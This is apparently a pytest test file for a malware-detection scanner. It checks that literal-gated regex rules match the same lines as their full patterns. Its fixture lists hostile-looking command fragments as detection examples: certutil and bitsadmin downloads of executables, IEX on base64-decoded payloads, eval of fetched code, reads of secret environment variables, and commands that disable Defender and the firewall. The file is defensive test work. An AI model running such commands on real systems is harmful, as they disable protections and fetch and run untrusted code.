"""generic.py's per-line rules are gated by literals: a gated rule must find, on every line,
exactly what its pattern finds on its own (a literal left out of a gate is a send missed)."""

from __future__ import annotations

import random
import re
from pathlib import Path

import pytest

from chimera_cards._scan import generic
from chimera_cards._scan.textruns import LiteralGated

GATES = {name: value for name, value in vars(generic).items() if isinstance(value, LiteralGated)}
DETECTION = Path(__file__).resolve().parents[3] / "benchmarks" / "detection"
SEPARATORS = [
    "",
    " ",
    "  ",
    "\t",
    "(",
    "('",
    '("',
    "'",
    '"',
    "`",
    ".",
    "|",
    "=",
    ",",
    "%x(",
    "sh ",
    "[",
]


def _words(pattern: re.Pattern) -> list[str]:
    """The literal pieces a pattern's source spells out (its branches' words)."""
    source = re.sub(r"\\[sSwWdDbB]|\[[^\]]*\]|\(\?[:=!<]+|[?*+{}()|^$]", " ", pattern.pattern)
    return sorted({w.replace("\\", "") for w in source.split() if w.replace("\\", "")})


def _recase(rng: random.Random, word: str) -> str:
    choice = rng.random()
    if choice < 0.4:
        return word
    if choice < 0.6:
        return word.upper()
    if choice < 0.8:
        return word.lower()
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)


def _lines(pattern: re.Pattern, count: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    extra = ["https://x.example/a", "$", "API_TOKEN'", 'HOME")', "{", "}", "a", "é"]
    words = [*_words(pattern), *extra]
    return [
        "".join(
            rng.choice(SEPARATORS) + _recase(rng, rng.choice(words))
            for _ in range(rng.randint(1, 5))
        )
        for _ in range(count)
    ]


@pytest.mark.parametrize("name", sorted(GATES))
def test_a_gated_rule_finds_on_generated_lines_what_its_pattern_finds(name):
    gate = GATES[name]
    found = 0
    for line in _lines(gate.pattern, 1500, len(name)):
        expected = gate.pattern.search(line)
        got = gate.search(line)
        assert (got and got.span()) == (expected and expected.span()), line
        assert [m.span() for m in gate.finditer(line, line.lower())] == [
            m.span() for m in gate.pattern.finditer(line)
        ], line
        found += expected is not None
    assert found > 0  # the generated lines do reach the pattern's branches


# One line per branch of each gated pattern: each must still be found through its gate.
BRANCHES = {
    "_ENV": [
        'os.Getenv("API_TOKEN")',
        "ENV.fetch('GH_TOKEN')",
        'System.getenv("KEY")',
        'Environment.GetEnvironmentVariable("X")',
        "ENV['AWS_SECRET']",
        "$ENV{HOME}",
        "$env:GITHUB_TOKEN",
    ],
    "_ENV_ALL": [
        "os.Environ()",
        "ENV.to_h",
        "%ENV",
        "Get-ChildItem env:",
        "gci env:",
        "dir env:",
        "$_ENV",
        "getenv()",
    ],
    "_SEND": [
        "http.Post(u)",
        "net.Dial(x)",
        "Net::HTTP",
        "HTTParty.post",
        "RestClient.get",
        "URI.open(x)",
        "OpenURI",
        "open('https://x')",
        "Faraday.new.post",
        "LWP::Simple",
        "HTTP::Tiny",
        "IO::Socket",
        "TCPSocket",
        "fsockopen",
        "getstore('http://x')",
        'file_get_contents("https://x")',
        "curl_exec",
        "stream_socket_client",
        "Invoke-RestMethod",
        "Invoke-WebRequest",
        "iwr u",
        "irm u",
        "UploadString",
        "DownloadFile",
        "Net.Sockets",
        "System.Net.Http",
        "Send-MailMessage",
        "HttpClient c; c.PostAsync",
        "socket.send",
        "reqwest::get",
        "ureq::post",
        "URLSession",
        "HttpURLConnection",
        "HttpRequest.newBuilder(u)",
        ".POST(HttpRequest.BodyPublishers.ofString(b))",
        "new OkHttpClient()",
        "http.request{ url = u }",
        "`curl x`",
        "%x(wget x)",
        'system("nc h")',
        "sh scp a b",
        "'rsync x'",
        '"socat x"',
        "'ncat h'",
        "Mojo::UserAgent->new",
        "Furl->new",
        "WWW::Mechanize->new",
        "Net::SMTP->new(h)",
        "Excon.post(u)",
        "Typhoeus::Request.new",
        "HTTPX.post(u)",
        "HTTP.post(u)",
        "new GuzzleHttp\\Client()",
        "wp_remote_post($u)",
        "resty.New()",
    ],
    "_SAVE": [
        "-OutFile a.ps1",
        ".DownloadFile(u, 'a.exe')",
        "getstore($u, 'a.pl')",
        "mirror($u, 'a.pl')",
        "File.write('a.rb', URI.open(u).read)",
        'os.WriteFile("a", b)',
        "certutil.exe -urlcache -f http://x a.exe",
        "bitsadmin /transfer j http://x a.exe",
        "Start-BitsTransfer -Source u -Destination a",
    ],
    "_FETCH_RUN": [
        "eval(URI.open(u).read)",
        "instance_eval open('https://x')",
        "class_eval(Net::HTTP.get(u))",
        "Kernel.eval HTTParty.get(u)",
        "eval(RestClient.get(u))",
        "eval get(u)",
        "eval(LWP::Simple::get($u))",
        "eval(file_get_contents('https://x'))",
    ],
    "_DECODE_RUN": [
        "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
        "Invoke-Expression (iwr u)",
        "FromBase64String($b) | IEX",
        "eval(base64_decode($x))",
        "eval Base64.decode64(x)",
        "unpack('m', x)",
        'exec.Command("sh", "-c", base64)',
    ],
    "_SECURITY_OFF": [
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Add-MpPreference -ExclusionPath C:\\",
        "Set-NetFirewallProfile -All -Enabled False",
        "Set-ExecutionPolicy Bypass",
        "powershell -ExecutionPolicy Bypass -File a",
        "netsh advfirewall set allprofiles state off",
    ],
}


@pytest.mark.parametrize("name", sorted(BRANCHES))
def test_every_branch_of_a_gated_rule_is_found_through_its_gate(name):
    gate = GATES[name]
    for example in BRANCHES[name]:
        cases = [example, f"  x = {example} # y"]
        if gate.pattern.flags & re.IGNORECASE:
            cases += [example.upper(), example.lower()]
        for line in cases:
            expected = gate.pattern.search(line)
            assert expected is not None, line
            assert gate.search(line).span() == expected.span(), line


@pytest.mark.slow
def test_the_gated_rules_find_on_the_labelled_corpus_what_their_patterns_find():
    lines = {
        line[:4096]
        for path in sorted(DETECTION.rglob("*"))
        if path.is_file() and path.suffix not in {".json", ".png"}
        for line in path.read_text(errors="replace").split("\n")
    }
    assert len(lines) > 1000
    for gate in GATES.values():
        for line in lines:
            assert bool(gate.search(line)) == bool(gate.pattern.search(line)), line


def test_a_line_with_a_long_s_goes_to_the_pattern_itself():
    # Case-blind, "s" matches a long s, which lower-cases to itself: a lower-cased line without
    # "send" may still match, so there only the pattern decides.
    gate = LiteralGated(re.compile(r"\bsend\b", re.I), ("send",))
    assert gate.search("\u017fend it") is not None
    assert gate.search("\u017fen it") is None
    assert gate.search("SEND it").span() == (0, 4)
    assert gate.search("resend it") is None


def test_a_line_past_ascii_is_gated_by_its_lower_case_and_finds_what_the_pattern_finds():
    gate = LiteralGated(re.compile(r"\bsend\b", re.I), ("send",))
    for line in [
        "caf\u00e9: SEND it \u2192 there",
        "\u00e9 resend",
        "\u212aeys: send",
        "S\u00c9ND",
    ]:
        expected = gate.pattern.search(line)
        found = gate.search(line)
        assert (found and found.span()) == (expected and expected.span()), line
    assert gate.search("caf\u00e9: SEND it").span() == (6, 10)


def test_gate_literals_are_lower_case():
    with pytest.raises(ValueError):
        LiteralGated(re.compile("x"), ("Send",))
